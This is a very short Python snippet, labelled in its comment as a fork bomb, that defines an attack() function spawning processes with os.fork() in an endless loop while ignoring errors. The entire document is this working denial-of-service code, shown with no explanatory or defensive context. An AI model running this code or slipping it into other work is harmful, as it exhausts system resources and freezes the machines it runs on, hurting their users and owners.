# A fork bomb. [waits]
import os
def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass
